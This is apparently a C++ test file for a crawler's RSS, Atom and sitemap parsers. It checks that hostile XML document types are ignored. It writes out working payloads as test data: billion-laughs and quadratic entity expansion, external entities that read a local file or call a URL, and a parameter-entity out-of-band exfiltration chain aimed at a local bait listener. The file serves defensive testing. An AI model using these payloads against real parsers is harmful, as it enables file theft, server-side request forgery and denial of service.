// Feeds and sitemaps made to read files, call other hosts or grow without end through XML's document types: entities
// are never expanded and nothing is ever fetched, what stands around the attack is still read.
#include <catch2/catch.hpp>

#include <string>

#include "crawler/extract.h"
#include "crawler/extract/feed.h"
#include "crawler/extract/sitemap.h"
#include "tests/support/temporary.h"

#include <arpa/inet.h>
#include <fstream>
#include <poll.h>
#include <sys/socket.h>
#include <unistd.h>

using namespace tingchao;
using namespace tingchao::crawler;

namespace {

const char* const here = "http://www.example.cn/feed.xml";

// A file that an attack would read and a port that it would call.
struct Bait {
  tests::TemporaryDirectory directory;
  std::string file = directory / "secret.txt";
  int listener = ::socket(AF_INET, SOCK_STREAM, 0);
  int port = 0;
  Bait() {
    std::ofstream(file) << "gaokao-answers-8861";
    sockaddr_in address{};
    address.sin_family = AF_INET;
    address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    socklen_t size = sizeof address;
    REQUIRE(::bind(listener, reinterpret_cast<sockaddr*>(&address), size) == 0);
    REQUIRE(::listen(listener, 8) == 0);
    ::getsockname(listener, reinterpret_cast<sockaddr*>(&address), &size);
    port = ntohs(address.sin_port);
  }
  ~Bait() { ::close(listener); }
  std::string url() const { return "http://127.0.0.1:" + std::to_string(port) + "/x.dtd"; }
  bool was_called() const {
    pollfd waiting{listener, POLLIN, 0};
    return ::poll(&waiting, 1, 0) > 0;
  }
};

std::string laughs(int levels, int times) {
  std::string subset = "<!ENTITY l0 'lollollollollollol'>";
  for (int i = 1; i < levels; ++i) {
    subset += "<!ENTITY l" + std::to_string(i) + " '";
    for (int k = 0; k < times; ++k) subset += "&l" + std::to_string(i - 1) + ";";
    subset += "'>";
  }
  return subset;
}

struct Attack {
  const char* name;
  std::string subset;     // within DOCTYPE x [ … ]
  std::string reference;  // where text is expected
};

std::vector<Attack> attacks(const Bait& bait) {
  const std::string file = "file://" + bait.file;
  return {{"十亿个笑", laughs(12, 10), "&l11;"},
          {"平方膨胀", "<!ENTITY a '" + std::string(50'000, 'a') + "'>",
           [] {
             std::string text;
             for (int i = 0; i < 5'000; ++i) text += "&a;";
             return text;
           }()},
          {"实体指向自己", "<!ENTITY a '&b;'><!ENTITY b '&a;'>", "&a;"},
          {"外部实体读文件", "<!ENTITY x SYSTEM '" + file + "'>", "&x;"},
          {"外部实体调网址", "<!ENTITY x SYSTEM '" + bait.url() + "'>", "&x;"},
          {"公共标识", "<!ENTITY x PUBLIC '-//A//B' '" + bait.url() + "'>", "&x;"},
          {"参数实体带外读取",
           "<!ENTITY % f SYSTEM '" + file + "'><!ENTITY % d SYSTEM '" + bait.url() +
               "'>%d;<!ENTITY % all \"<!ENTITY send SYSTEM '" + bait.url() + "?%f;'>\">%all;",
           "&send;"},
          {"参数实体膨胀", "<!ENTITY % a '&#37;b;&#37;b;'><!ENTITY % b '%a;%a;'>%a;", "x"},
          {"属性里的实体", "<!ENTITY x SYSTEM '" + file + "'><!ATTLIST item about CDATA '&x;'>", "x"},
          {"默认属性值", "<!ATTLIST link href CDATA '" + bait.url() + "'>", "x"},
          {"记号与未解析实体", "<!NOTATION n SYSTEM '" + bait.url() + "'><!ENTITY x SYSTEM 'a' NDATA n>", "&x;"},
          {"条件段", "<![INCLUDE[<!ENTITY x SYSTEM '" + file + "'>]]>", "&x;"}};
}

// None of what the attack wanted is in what was read, and nothing grew.
void check(const std::string& out, const std::string& in, const Bait& bait) {
  CHECK(out.find("gaokao-answers-8861") == std::string::npos);
  CHECK(out.find("lollollol") == std::string::npos);
  CHECK(out.size() <= in.size() + 1024);
  CHECK_FALSE(bait.was_called());
}

}  // namespace

TEST_CASE("document types in a feed are passed over", "[extract][feed][hostile]") {
  const Bait bait;
  for (const Attack& attack : attacks(bait)) DYNAMIC_SECTION(attack.name) {
      for (const char* kind : {"rss", "atom"}) {
        const bool rss = std::string(kind) == "rss";
        const std::string type = std::string("<?xml version='1.0'?><!DOCTYPE ") + kind + " [" + attack.subset + "]>";
        const std::string body =
            rss ? "<rss version='2.0'><channel><title>云溪教育" + attack.reference + "</title><item><title>通知" +
                      attack.reference + "</title><link>http://www.example.cn/1.html</link><description>" +
                      attack.reference + "</description></item><item><title>后一条</title>"
                                         "<link>http://www.example.cn/2.html</link></item></channel></rss>"
                : "<feed xmlns='http://www.w3.org/2005/Atom'><title>云溪教育</title><entry><id>1</id><title>通知" +
                      attack.reference + "</title><link href='http://www.example.cn/1.html'/><summary>" +
                      attack.reference + "</summary></entry><entry><id>2</id><title>后一条</title>"
                                         "<link href='http://www.example.cn/2.html'/></entry></feed>";
        const std::string xml = type + body;
        const auto feed = parse_feed(xml, "application/xml", here);
        REQUIRE(feed);
        CHECK(feed->entries.size() == 2);
        Page page;
        page.url = page.requested_url = here;
        page.body = xml;
        page.headers = {{"content-type", "application/xml"}};
        page.fetched_at = *parse_time("2026-04-21T12:00:00+08:00");
        Source source;
        source.id = "s";
        source.kind = SourceKind::feed;
        const auto extracted = extract(page, source, Role::entry, "salt");
        REQUIRE(extracted);
        std::string out;
        for (const Link& link : extracted->links) out += link.url + "\n" + link.title + "\n";
        for (const Document& document : extracted->documents) out += document.title + document.body + document.url;
        CHECK(out.find("http://www.example.cn/2.html") != std::string::npos);
        check(out, xml, bait);
      }
    }
}

TEST_CASE("document types in a sitemap are passed over", "[extract][sitemap][hostile]") {
  const Bait bait;
  for (const Attack& attack : attacks(bait)) DYNAMIC_SECTION(attack.name) {
      const std::string xml = "<?xml version='1.0'?><!DOCTYPE urlset [" + attack.subset +
                              "]><urlset><url><loc>http://www.example.cn/a" + attack.reference +
                              "</loc></url><url><loc>http://www.example.cn/b.html</loc></url></urlset>";
      const auto sitemap = parse_sitemap(xml, "", here);
      REQUIRE(sitemap);
      std::string out;
      bool has_last = false;
      for (const auto& url : sitemap->urls) {
        out += url.loc + "\n";
        has_last = has_last || url.loc == "http://www.example.cn/b.html";
      }
      CHECK(has_last);
      CHECK(out.size() <= 2 * xml.size() + 1024);  // '%' of what is no address is escaped
      CHECK(out.find("gaokao") == std::string::npos);
      CHECK_FALSE(bait.was_called());
    }
}
